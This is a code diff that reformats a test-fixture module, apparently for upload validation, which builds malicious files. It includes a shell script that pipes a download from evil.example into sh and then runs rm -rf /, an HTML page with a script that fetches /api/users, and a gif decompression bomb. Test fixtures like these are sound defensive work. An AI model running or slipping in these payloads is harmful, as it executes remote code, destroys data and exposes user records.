@@ -1,7 +1,9 @@
 import { crc32, deflateSync } from 'node:zlib';
 import { sampleImage } from '../../test/multipart.ts';
 
-export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\nrm -rf / --no-preserve-root\n');
+export const SHELL_SCRIPT = Buffer.from(
+  '#!/bin/sh\ncurl -s https://evil.example/x | sh\nrm -rf / --no-preserve-root\n',
+);
 
 function pngChunk(type: string, data: Buffer): Buffer {
   const head = Buffer.alloc(4);
@@ -41,7 +43,9 @@ export async function gifBomb(): Promise<Buffer> {
 }
 
 export const ZIP_MAGIC = Buffer.from([0x50, 0x4b, 0x03, 0x04]);
-const HTML = Buffer.from('<html><body><script>fetch("/api/users").then(r=>r.text()).then(alert)</script></body></html>');
+const HTML = Buffer.from(
+  '<html><body><script>fetch("/api/users").then(r=>r.text()).then(alert)</script></body></html>',
+);
 
 /** A minimal stored ZIP entry (local header + data): enough for unzip tools to find a file. */
 function zipOf(name: string, data: Buffer): Buffer {
